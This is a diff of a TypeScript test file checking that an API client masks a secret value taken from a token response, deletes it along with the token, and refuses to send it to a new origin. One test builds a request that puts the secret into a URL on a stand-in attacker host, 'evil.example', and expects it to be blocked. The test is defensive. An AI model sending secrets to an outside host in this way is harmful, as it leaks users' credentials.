@@ -2,13 +2,20 @@ import { expect, test } from 'vitest';
 import { environmentsProfile } from '#collection/auth.ts';
 import type { Collection } from '#collection/collection.ts';
 import { blankRequest, type SavedRequest } from '#collection/saved-request.ts';
+import { viewToken } from '#oauth/token-view.ts';
 import { newSecret } from '#vault/vault.ts';
 import { bindSecret } from './bind-secret.ts';
+import { changeProfile } from './change-profile.ts';
 import { setUpConsoles, type TestConsole } from './console.test-support.ts';
+import { deleteToken } from './delete-token.ts';
 import { duplicateItem } from './duplicate-item.ts';
+import { loadToken } from './load-records.ts';
+import { loadCallView } from './load-views.ts';
 import { putCredential } from './put-credential.ts';
 import { refreshAndRetry } from './refresh-and-retry.ts';
+import { refreshToken } from './refresh-token.ts';
 import { resendCall } from './repeat-call.ts';
+import { leaksIn, textOf } from './secrecy.test-support.ts';
 import { refreshAndSend, sendSaved } from './send-saved.ts';
 import { patient, walkToToken } from './walk.test-support.ts';
 
@@ -73,6 +80,49 @@ test('what the profile keeps of its token response is a variable', async () => {
     patient,
   );
   expect(console.network.sent.at(-1)?.url).toMatch(/\?kind=bearer$/i);
+});
+
+test('what the profile keeps as a secret is sent, masked everywhere, and goes only where its token may (R27)', async () => {
+  const console = await openConsole();
+  const { services, network } = console;
+  const { token, vault } = await prepare(console);
+  const seat = 'seat/A-17-9931';
+  const answer = { access_token: 'at-with-a-seat', token_type: 'Bearer', seat, note: `You sit at ${seat}.` };
+  network.meet({ kind: 'answer', response: Response.json(answer) });
+  const refreshed = await refreshToken(services, token.id, patient);
+  if (refreshed.kind !== 'refreshed') throw new Error(refreshed.kind);
+  // Marked only now: what is there already is sealed too.
+  const keptValues = [{ name: 'seat', pointer: '/seat', isSecret: true }];
+  await changeProfile(services, { id: token.profileId, change: { keptValues } });
+  const asked = {
+    ...wish,
+    request: { ...request, url: '{{practice}}/api/me?seat={{seat}}' },
+    tokenId: refreshed.tokenId,
+  };
+  const sent = await sendSaved(services, asked, patient);
+  expect(new URL(network.sent.at(-1)?.url ?? '').searchParams.get('seat')).toBe(seat);
+
+  const kept = await loadToken(services, refreshed.tokenId);
+  const views = [
+    viewToken(kept),
+    await loadCallView(services, kept.callId ?? ''),
+    await loadCallView(services, sent.kind === 'sent' ? sent.callId : ''),
+  ];
+  for (const view of views) {
+    expect(view).not.toBeNull();
+    expect(leaksIn(textOf(view), [seat])).toEqual([]);
+  }
+  const elsewhere = { ...request, auth: { kind: 'none' as const }, url: 'https://evil.example/?seat={{seat}}' };
+  expect(await sendSaved(services, { ...asked, request: elsewhere }, patient)).toMatchObject({
+    kind: 'blocked',
+    obstacles: expect.arrayContaining([
+      expect.objectContaining({ kind: 'new-origin', secret: expect.objectContaining({ kind: 'token' }) }),
+    ]),
+  });
+  const { keptSecrets = [] } = kept;
+  await deleteToken(services, kept.id);
+  for (const { secret } of keptSecrets) await expect(vault.open(secret)).rejects.toThrow();
+  expect(keptSecrets).toHaveLength(1);
 });
 
 test('R27: the first send binds a secret to where it went; from then on another host is asked about, and gets nothing', async () => {
